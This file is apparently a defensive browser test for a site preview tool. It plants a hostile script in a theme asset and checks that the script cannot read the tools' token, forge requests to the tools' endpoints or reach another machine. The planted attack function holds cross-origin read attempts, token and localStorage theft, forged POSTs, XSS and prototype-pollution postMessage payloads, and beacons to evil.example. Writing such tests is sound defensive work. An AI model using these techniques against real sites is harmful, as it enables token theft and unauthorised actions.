// A script that somebody placed in a site by hand: it reads no secret, writes nothing, opens nothing, and reaches no tool.
//
// Once as the preview serves its pages, and once without any Content-Security-Policy: what separates pages from tools
// is their origins, and the policy comes on top.

import fs from 'node:fs';
import path from 'node:path';
import { atDesk } from './preview-desk.mjs';

const SCRIPT = 'themes/jalon/assets/jalon.js';
const PAGE = '/val/types/meuble/index.html';
const EVIL = 'http://evil.example';

/** What the script in the page does; `tools` is the origin of the tools, which it may well guess. */
async function attack([tools, evil]) {
  const told = {};
  const tries = {
    // First, while a click allows it.
    'in a window of its own': async () => {
      const opened = window.open(`${tools}/_relecture`, 'outils');
      await new Promise((go) => { setTimeout(go, 1500); });
      try {
        return opened.document.body.innerText;
      } finally {
        opened?.close();
      }
    },
    'reads the state beside its page': async () => (await fetch('/_jalon/etat.json')).text(),
    'reads the state of the tools': async () => (await fetch(`${tools}/_jalon/etat.json`)).text(),
    'with its cookies': async () => (await fetch(`${tools}/_jalon/etat.json`, { credentials: 'include', cache: 'force-cache' })).text(),
    'without asking to read': async () => (await fetch(`${tools}/_jalon/etat.json`, { mode: 'no-cors' })).text(),
    'reads a page of the tools': async () => (await fetch(`${tools}/_relecture`)).text(),
    'reads the reviews': async () => (await fetch(`${tools}/_jalon/relecture.json`)).text(),
    'in the old way': () => new Promise((done, failed) => {
      const asked = new XMLHttpRequest();
      asked.open('GET', `${tools}/_jalon/etat.json`);
      asked.onload = () => done(asked.responseText);
      asked.onerror = () => failed(new Error('refused'));
      asked.send();
    }),
    'as a script': () => new Promise((done, failed) => {
      const script = document.createElement('script');
      script.src = `${tools}/_jalon/etat.json`;
      script.onload = () => done('loaded');
      script.onerror = () => failed(new Error('refused'));
      document.body.append(script);
    }),
    'as a module': () => import(`${tools}/_jalon/client/server.js`).then((module) => module.prepare()).then(JSON.stringify),
    'by a socket of the tools': () => new Promise((done, failed) => {
      const socket = new WebSocket(`${tools.replace('http', 'ws')}/_jalon/flux?page=/&version=0&visible=1`);
      socket.onmessage = ({ data }) => done(data);
      socket.onerror = () => failed(new Error('refused'));
    }),
    'in a frame of its own': () => new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.src = `${tools}/_relecture`;
      frame.onload = () => done(frame.contentWindow.document.body.innerText);
      document.body.append(frame);
      setTimeout(() => done(''), 3000);
    }),
    'around itself': async () => parent.document.body.outerHTML,
    'in the words of its parent': async () => JSON.stringify(parent.known()),
    'by a worker': async () => {
      const worker = await navigator.serviceWorker.register('/_jalon/apercu.js', { scope: '/_jalon/' });
      return String(worker.scope);
    },
    'in what the browser keeps': async () => {
      const kept = { ...localStorage, ...sessionStorage };
      return Object.keys(kept).some((key) => /jeton|token/.test(key)) ? JSON.stringify(kept) : Promise.reject(new Error(document.cookie));
    },
  };
  // Writing, with whatever came to hand.
  const token = 'x'.repeat(64);
  const body = JSON.stringify({ date: '2031-01-01', file: 'content/types/meuble.md', undo: '1' });
  for (const where of [tools, location.origin]) {
    for (const path of ['/_jalon/date', '/_jalon/ouvrir', '/_jalon/relecture']) {
      for (const mode of ['cors', 'no-cors']) {
        tries[`POST ${where === tools ? 'to the tools' : 'beside'} ${path} ${mode}`] = async () => {
          const headers = mode === 'cors' ? { 'Content-Type': 'application/json', 'X-Jalon-Jeton': token } : { 'Content-Type': 'text/plain' };
          const answer = await fetch(where + path, { method: 'POST', mode, credentials: 'include', headers, body });
          if (!answer.ok) throw new Error(`${answer.type} ${answer.status}`);
          return answer.text();
        };
      }
    }
  }
  for (const [what, go] of Object.entries(tries)) {
    try {
      told[what] = { done: await go() };
    } catch (error) {
      told[what] = { failed: String(error) };
    }
  }
  navigator.sendBeacon(`${tools}/_jalon/date`, new Blob([body], { type: 'application/json' }));
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: `${tools}/_jalon/date`, enctype: 'text/plain', target: 'formulaire' });
  form.innerHTML = `<input name='{"date":"2031-01-01","x":"' value='"}'>`;
  document.body.append(form);
  form.submit();
  // It speaks to the tools as the page does, and says what the page never says.
  for (const jalon of ['page', 'changed', 'line', 'problems', 'state', 'found', 'open', 'here', 'touch', 'escape', 'date', 'ouvrir', '__proto__', 'constructor']) {
    for (const more of [{}, { path: '/_relecture' }, { path: `//${evil}/` }, { path: 'javascript:alert(1)' }, { path: '/%' }, { at: 0, file: 'content/types/meuble.md' }, { at: '__proto__' },
      { serial: 1, found: [[0, '<img src=x onerror=alert(1)>'], ['__proto__', 1], null] }, { title: '<img src=x onerror=alert(1)>', path: '/val/', hash: '#x' }, { path: 7, date: '2031-01-01' }]) {
      parent.postMessage({ ...more, jalon }, '*');
    }
  }
  for (const odd of [null, 'x', 7, [], { jalon: {} }]) parent.postMessage(odd, '*');
  // A beacon to another machine, in each way that a page has.
  new Image().src = `${evil}/image`;
  fetch(`${evil}/fetch`, { mode: 'no-cors' }).catch(() => {});
  navigator.sendBeacon(`${evil}/beacon`, 'x');
  for (const [tag, name] of [['script', 'src'], ['iframe', 'src'], ['link', 'href'], ['video', 'src'], ['object', 'data']]) {
    const node = document.createElement(tag);
    node[name] = `${evil}/${tag}`;
    if (tag === 'link') node.rel = 'stylesheet';
    document.body.append(node);
  }
  return told;
}

for (const bypassCSP of [false, true]) {
  await atDesk(async (desk) => {
    // The console tells of refusals; faults of scripts are none of them.
    desk.expected = /./;
    const good = desk.read(SCRIPT);
    desk.write(SCRIPT, `${good}\nwindow.attack = ${attack};\n`);
    const opened = desk.file('ouvert');
    fs.writeFileSync(desk.file('editeur.sh'), '#!/bin/sh\necho "$@" >> ouvert\n', { mode: 0o755 });
    await desk.serve('--editor', './editeur.sh {file}', '--date', '2026-11-24');
    const asked = [];
    await desk.context.route(`${EVIL}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ status: 200, body: '' });
    });
    const tab = await desk.open(PAGE);
    desk.said.length = 0;
    const state = () => tab.evaluate(async () => (await fetch('/_jalon/etat.json')).json());
    const before = files(desk.file('.'));
    const { token } = await state();
    desk.true(token.length > 30, 'the tools have a token');
    await tab.bringToFront();
    await tab.site.locator('h1').click();
    const told = await tab.site.evaluate((given) => window.attack(given), [desk.address, EVIL]);
    await tab.waitForTimeout(1500);
    const text = JSON.stringify(told);
    desk.true(!text.includes(token) && !text.includes('"token"'), `the token is told: ${text}`);
    const done = Object.entries(told).filter(([what, { done: found }]) => found !== undefined && !harmless(what, found));
    desk.same(done, [], 'what the script could do');
    const now = await state();
    desk.same([now.date, now.simulated, now.token === token], ['2026-11-24', true, true], 'the day is as it was');
    desk.same(files(desk.file('.')), before, 'no file is written');
    desk.true(!fs.existsSync(opened), 'nothing is opened');
    // The tools are whole, and at a page of the site.
    desk.same(desk.said.filter((told) => told.includes('/_jalon/')), [], 'faults of the tools');
    desk.true(!/_relecture|evil|%$/.test(tab.url()), tab.url());
    desk.same(await tab.evaluate(() => document.querySelectorAll('img').length + document.querySelector('jalon-apercu').shadowRoot.querySelectorAll('img').length), 0, 'nothing of it is an element of the tools');
    if (!bypassCSP) desk.same(asked, [], 'what left for another machine');
    // A hand on the tools still opens what it points at.
    desk.edit('territories/val.toml', 'accompagnement = "orientation"', 'acompagnement = "orientation"');
    // (A list that is told anew while the server answers takes the pressed button away.)
    await tab.bringToFront();
    for (let n = 0; n < 20 && !fs.existsSync(opened); n += 1) {
      await tab.locator('jalon-apercu #panel .place-link').first().click();
      await tab.waitForTimeout(500);
    }
    desk.true(fs.existsSync(opened), 'a hand on the tools opens the editor');
    desk.edit('territories/val.toml', 'acompagnement', 'accompagnement');
    fs.rmSync(opened, { force: true });
    desk.write(SCRIPT, good);
    desk.said.length = 0;
  }, { bypassCSP });
}

/** The 404 of an address that is none, and what is opaque to the script. */
function harmless(what, found) {
  return /beside|without asking to read|no-cors|frame of its own/.test(what) && (found === '' || /^404|<title>/.test(found) && !found.includes('token'));
}

function files(folder) {
  const found = fs.readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile() && !entry.parentPath.includes('.jalon'));
  return found.map((entry) => path.join(entry.parentPath, entry.name)).sort().map((name) => [name, fs.readFileSync(name, 'base64').length, fs.statSync(name).mtimeMs]);
}
